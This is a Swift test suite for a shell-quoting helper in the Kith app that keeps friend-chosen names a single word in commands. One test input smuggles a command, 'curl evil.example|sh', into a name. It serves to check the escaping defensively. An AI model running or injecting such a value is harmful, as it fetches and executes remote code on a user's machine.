import KithNode
import Testing

/// A name in a command Kith tells its owner to run stays one word, whatever the friend chose.
@Suite struct ShellWordTests {
    @Test func plainNamesStayAsTheyAre() {
        #expect(ShellWord.quoted("bob") == "bob")
        #expect(ShellWord.quoted("anna-maria_2") == "anna-maria_2")
    }

    @Test func anythingElseIsSingleQuoted() {
        #expect(ShellWord.quoted("bob $(curl evil.example|sh)") == "'bob $(curl evil.example|sh)'")
        #expect(ShellWord.quoted("it's `me`") == #"'it'\''s `me`'"#)
        #expect(ShellWord.quoted("José") == "'José'")
        #expect(ShellWord.quoted("") == "''")
    }
}
